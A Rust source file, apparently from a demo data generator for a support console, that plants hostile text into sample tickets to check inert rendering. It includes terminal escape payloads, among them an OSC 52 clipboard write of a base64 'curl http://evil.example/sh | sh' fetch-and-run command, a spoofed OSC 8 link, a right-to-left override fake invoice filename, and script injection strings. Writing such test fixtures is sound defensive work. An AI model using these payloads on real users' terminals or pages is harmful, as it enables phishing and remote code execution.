//! Requests carrying hostile text on purpose. Vendor text is untrusted: a title can try to set
//! the terminal's window title, a body can write to the clipboard (OSC 52) or clear the screen,
//! a comment can reverse the line with a bidi override, and HTML can be huge or absurdly deep.
//! The console must render all of them inertly; the demo keeps them in plain sight (open, recent).

use crate::sim::assets::HostileSeed;
use crate::sim::dataset::{Comment, Request};
use crate::sim::generate::text::escape;

/// One hostile payload: which request field it lands in.
struct Payload {
    title: String,
    description: Option<String>,
    comment: Option<String>,
}

/// The payloads, in a fixed order; the asset gives the words around them so that each instance's
/// hostile requests read like the rest of its requests.
fn payloads(words: &HostileSeed) -> Vec<Payload> {
    let esc = '\u{1b}';
    let bel = '\u{7}';
    let title = |index: usize| {
        words.titles.get(index).map_or_else(
            || format!("Request with odd text {}", index + 1),
            Clone::clone,
        )
    };
    // A zero-width space right after the first word, where nobody sees it.
    let hidden_space = |title: String| match title.split_once(' ') {
        Some((first, rest)) => format!("{first}\u{200b} {rest}"),
        None => format!("{title}\u{200b}"),
    };
    // "curl http://evil.example/sh | sh", base64-encoded as OSC 52 expects.
    let clipboard = "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3NoIHwgc2g=";
    let nested_depth = 2_000;
    let nested = format!(
        "<p>Signature below renders oddly:</p>\r\n{}<span>Kind regards</span>{}\r\n",
        "<div>".repeat(nested_depth),
        "</div>".repeat(nested_depth)
    );
    let line = format!("{}\r\n", escape(&words.log_line));
    let huge = format!(
        "<p>Full log attached inline as requested:</p>\r\n<pre>{}</pre>\r\n",
        line.repeat(200 * 1024 / line.len() + 1)
    );
    vec![
        Payload {
            title: format!("{} {esc}]0;PWNED{bel}", title(0)),
            description: None,
            comment: None,
        },
        Payload {
            title: title(1),
            description: Some(format!(
                "<p>{}</p>\r\n<p>{esc}]52;c;{clipboard}{bel}</p>\r\n",
                escape(&words.clipboard_intro)
            )),
            comment: None,
        },
        Payload {
            title: title(2),
            description: None,
            comment: Some(
                "<p>Please open the file invoice_\u{202e}fdp.exe and approve it today.</p>\r\n"
                    .into(),
            ),
        },
        Payload {
            title: title(3),
            description: Some(format!(
                "<p>{}</p>\r\n<p>{esc}[2J{esc}[H{}</p>\r\n",
                escape(&words.screen_clear_intro),
                escape(&words.screen_clear_text)
            )),
            comment: None,
        },
        Payload {
            title: hidden_space(title(4)),
            description: None,
            comment: None,
        },
        Payload {
            title: title(5),
            description: Some(nested),
            comment: None,
        },
        Payload {
            title: title(6),
            description: Some(huge),
            comment: None,
        },
        Payload {
            title: title(7),
            description: Some(format!(
                "<p>The link {esc}]8;;http://evil.example/login{esc}\\Open the portal{esc}]8;;{esc}\\ \
                 goes somewhere else.</p>\r\n<p><a href=\"javascript:alert(1)\">Click here</a>\
                 <script>alert('x')</script></p>\r\n"
            )),
            comment: None,
        },
    ]
}

/// Plants the payloads into recent open requests (every third one from the newest backwards, so
/// they do not all sit on the same screen) and returns their ids.
pub fn plant(
    requests: &mut [Request],
    words: &HostileSeed,
    open_status_ids: &[u64],
    next_comment_id: u64,
    now: i64,
) -> Vec<u64> {
    let mut ids = Vec::new();
    let mut comment_id = next_comment_id;
    let targets: Vec<usize> = (0..requests.len())
        .rev()
        .filter(|&i| {
            requests
                .get(i)
                .is_some_and(|r| open_status_ids.contains(&r.status_id))
        })
        .step_by(3)
        .collect();
    for (payload, index) in payloads(words).into_iter().zip(targets) {
        let Some(request) = requests.get_mut(index) else {
            continue;
        };
        request.title = payload.title;
        if let Some(description) = payload.description {
            request.description = description;
        }
        if let Some(message) = payload.comment {
            let last = request
                .comments
                .last()
                .map_or(request.created_at, |c| c.created_at);
            let created_at = (last + 60).min(now).max(last);
            let msg_num = u32::try_from(request.comments.len() + 1).unwrap_or(u32::MAX);
            request.comments.push(Comment {
                id: comment_id,
                author_id: request.user_id,
                message,
                created_at,
                customer_visible: true,
                is_solution: false,
                reference: None,
                msg_num,
                attached_files: Vec::new(),
            });
            comment_id += 1;
            request.last_update = request.last_update.max(created_at);
        }
        ids.push(request.id);
    }
    ids.sort_unstable();
    ids
}
